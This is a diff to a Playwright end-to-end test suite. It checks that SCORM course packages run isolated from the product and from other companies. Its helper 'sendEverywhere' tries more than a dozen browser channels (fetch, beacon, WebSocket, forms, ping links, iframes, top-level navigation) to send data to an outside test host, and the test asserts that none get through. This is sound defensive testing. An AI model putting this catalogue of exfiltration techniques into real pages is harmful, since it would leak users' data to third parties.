@@ -1,7 +1,9 @@
 import { readFileSync } from 'node:fs';
-import { expect, type Page, test } from '@playwright/test';
-import { bearer } from './accounts.ts';
-import { demo, enterAs, expectAccessible } from './people.ts';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { expect, type Frame, type Page, test } from '@playwright/test';
+import { bearer, linkIn, registered, SECRET, uniqueEmail } from './accounts.ts';
+import { demo, enterAs, enterBy, expectAccessible, fromSomewhere } from './people.ts';
 
 const phone = { width: 390, height: 844 };
 
@@ -91,38 +93,141 @@ test('a partner takes a course with a quiz on a phone, resumes it and completes 
   await expect(page.getByRole('row', { name: /^Check what you know/ })).toContainText('1');
 });
 
-test('a SCORM package runs apart from the product and is completed with its score', async ({ page }) => {
-  const title = `Golf ${Date.now()}`;
-  const token = await enterAs(page, demo.company);
+async function publishPackage(page: Page, token: string, title: string, file: string): Promise<void> {
   const { id } = await post(page, token, '/courses', { title });
+  const buffer = readFileSync(`fixtures/scorm/${file}`);
   const sent = await page.request.post(`/api/courses/${id}/files/scorm`, {
     headers: bearer(token),
-    multipart: {
-      file: {
-        name: 'golf.zip',
-        mimeType: 'application/zip',
-        buffer: readFileSync('fixtures/scorm/RuntimeBasicCalls_SCORM20043rdEdition.zip'),
-      },
-    },
+    multipart: { file: { name: file, mimeType: 'application/zip', buffer } },
   });
   expect(sent.ok(), await sent.text()).toBe(true);
   const { id: file_id } = (await sent.json()) as { id: string };
   await publish(page, token, id, [{ id: 'golf', kind: 'scorm', title: 'Golf', is_required: true, file_id }]);
+}
 
-  page.on('dialog', (dialog) => void dialog.accept());
-  await enterAs(page, demo.partner);
+/** Opens the package of a course and answers the frame of its pages. */
+async function openPackage(page: Page, title: string): Promise<Frame> {
   await page.goto('/partner-training');
   await page.getByRole('listitem').filter({ hasText: title }).getByRole('button', { name: 'Start course' }).click();
   await page.getByRole('button', { name: /^Start: / }).click();
+  const found = () => page.frames().find((frame) => frame.url().includes('/scorm/') && !frame.url().includes('/~/'));
+  await expect.poll(() => found() !== undefined).toBe(true);
+  await found()!.waitForLoadState();
+  return found()!;
+}
+
+/** A learner of a new company that has one package. */
+async function learnerElsewhere(page: Page, title: string): Promise<string> {
+  const { token } = await registered(page.request);
+  await post(page, token, '/onboarding/skip', {});
+  const { id: partner_id } = await post(page, token, '/partners', { name: 'Partner' });
+  await publishPackage(page, token, title, 'singlesco_scorm12.zip');
+  const email = uniqueEmail('partner.example');
+  await post(page, token, '/invitations', { email, role: 'partner_admin', partner_id });
+  const link = new URL(await linkIn(page.request, token, email));
+  const accepted = await page.request.post('/api/public/invitations/accept', {
+    headers: fromSomewhere(),
+    data: { token: link.hash.slice('#token='.length), password: SECRET, full_name: 'Ann Partner' },
+  });
+  expect(accepted.ok(), await accepted.text()).toBe(true);
+  return ((await accepted.json()) as { token: string }).token;
+}
+
+const stored = () => ({ mark: localStorage.getItem('mark'), cookies: document.cookie });
+
+/** Tries every way a page has to send something to a server. */
+async function sendEverywhere(elsewhere: string): Promise<void> {
+  const to = (way: string) => `${elsewhere}/${way}?name=learner`;
+  const add = (html: string) => document.body.insertAdjacentHTML('beforeend', html);
+  const attempt = (work: () => unknown) => {
+    try {
+      const result = work();
+      if (result instanceof Promise) result.catch(() => {});
+    } catch {}
+  };
+  new Image().src = to('img');
+  attempt(() => fetch(to('fetch'), { mode: 'no-cors' }));
+  attempt(() => navigator.sendBeacon(to('beacon'), 'x'));
+  attempt(() => new WebSocket(to('socket').replace('http', 'ws')));
+  attempt(() => new EventSource(to('events')));
+  attempt(() => new Worker(to('worker')));
+  attempt(() => navigator.serviceWorker?.register('x.js'));
+  attempt(() => window.open(to('window')));
+  attempt(() => {
+    window.top!.location.href = to('top');
+  });
+  attempt(() => {
+    window.parent.location.href = to('parent');
+  });
+  add(`<iframe src="${to('frame')}"></iframe><video src="${to('video')}"></video><object data="${to('object')}"></object>
+    <link rel="stylesheet" href="${to('style')}"><link rel="prefetch" href="${to('prefetch')}"><link rel="preload" as="image" href="${to('preload')}">
+    <div style="background: url(${to('background')})">x</div><form id="out" action="${to('form')}" target="_blank"></form>
+    <a id="away" href="${to('link')}" target="_blank" ping="${to('ping')}">x</a><a id="load" href="${to('download')}" download="x">x</a>`);
+  (document.getElementById('out') as HTMLFormElement).submit();
+  document.getElementById('away')!.click();
+  document.getElementById('load')!.click();
+  // An error of the server is a page of the same origin: it must not be one without limits.
+  for (const address of [`/scorm/${'x'.repeat(70_000)}`, '/scorm/%', '/scorm/none', '/api/session']) {
+    const frame = document.createElement('iframe');
+    frame.src = address;
+    frame.onload = () =>
+      attempt(() => {
+        const page = frame.contentDocument!;
+        page.body.append(Object.assign(page.createElement('img'), { src: to('error-page') }));
+      });
+    document.body.append(frame);
+  }
+  await new Promise((resolve) => setTimeout(resolve, 2_000));
+  location.href = to('location');
+}
+
+test('a SCORM package runs apart from the product and other companies, and is completed with its score', async ({
+  page,
+}) => {
+  page.on('dialog', (dialog) => void dialog.accept());
+  const title = `Golf ${Date.now()}`;
+  const token = await enterAs(page, demo.company);
+  await publishPackage(page, token, title, 'RuntimeBasicCalls_SCORM20043rdEdition.zip');
+
+  const neighbor = await test.step('another company’s package keeps something, and can send nothing away', async () => {
+    const hits: string[] = [];
+    const elsewhere = createServer((request, response) => {
+      hits.push(request.url!);
+      response.end('x');
+    });
+    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
+    const { port } = elsewhere.address() as AddressInfo;
+    await enterBy(page, await learnerElsewhere(page, 'Neighbor'));
+    const content = await openPackage(page, 'Neighbor');
+    const { origin } = new URL(content.url());
+    await content.evaluate(() => {
+      localStorage.setItem('mark', 'neighbor');
+      const set = (cookie: string) => Object.assign(document, { cookie: `${cookie}; path=/; samesite=none; secure` });
+      set('mark=neighbor');
+      set('wide=neighbor; domain=localhost');
+    });
+    expect(await content.evaluate(stored)).toEqual({ mark: 'neighbor', cookies: 'mark=neighbor' });
+    // The server is there: only the policy keeps the package from it.
+    expect((await page.request.get(`http://127.0.0.1:${port}/reached`)).ok()).toBe(true);
+    // Its last attempt leaves the page.
+    await content.evaluate(sendEverywhere, `http://tandem.intern:${port}`).catch(() => {});
+    await page.waitForTimeout(1_000);
+    expect(hits).toEqual(['/reached']);
+    expect(page.context().pages()).toHaveLength(1);
+    expect(new URL(page.url()).port).toBe(new URL(origin).port);
+    elsewhere.close();
+    return origin;
+  });
+
+  await enterAs(page, demo.partner);
+  const first = await openPackage(page, title);
   const content = page.frameLocator('iframe[title="Golf Explained"]').frameLocator('iframe');
-  for (let at = 0; at < 14; at++) await content.getByRole('button', { name: 'Next ->' }).click();
-  const findQuiz = () => page.frames().find((frame) => frame.url().includes('assessmenttemplate'));
-  await expect.poll(() => findQuiz() !== undefined).toBe(true);
-  const frame = findQuiz()!;
-  await frame.waitForSelector('#frmTest');
-  // It runs on another origin, and cannot read this page.
-  expect(new URL(frame.url()).hostname).toBe('scorm.localhost');
-  const reached = await frame.evaluate(() => {
+  // It runs on an origin of its company, reads nothing that the other one keeps, and cannot read this page.
+  const { origin, hostname } = new URL(first.url());
+  expect(hostname).toMatch(/^[0-9a-f]{32}\.localhost$/);
+  expect(origin).not.toBe(neighbor);
+  expect(await first.evaluate(stored)).toEqual({ mark: null, cookies: '' });
+  const reached = await first.evaluate(() => {
     try {
       return window.top!.document.title;
     } catch {
@@ -130,6 +235,11 @@ test('a SCORM package runs apart from the product and is completed with its scor
     }
   });
   expect(reached).toBeNull();
+  for (let at = 0; at < 14; at++) await content.getByRole('button', { name: 'Next ->' }).click();
+  const findQuiz = () => page.frames().find((frame) => frame.url().includes('assessmenttemplate'));
+  await expect.poll(() => findQuiz() !== undefined).toBe(true);
+  const frame = findQuiz()!;
+  await frame.waitForSelector('#frmTest');
   await frame.evaluate(() => {
     const {
       test: quiz,
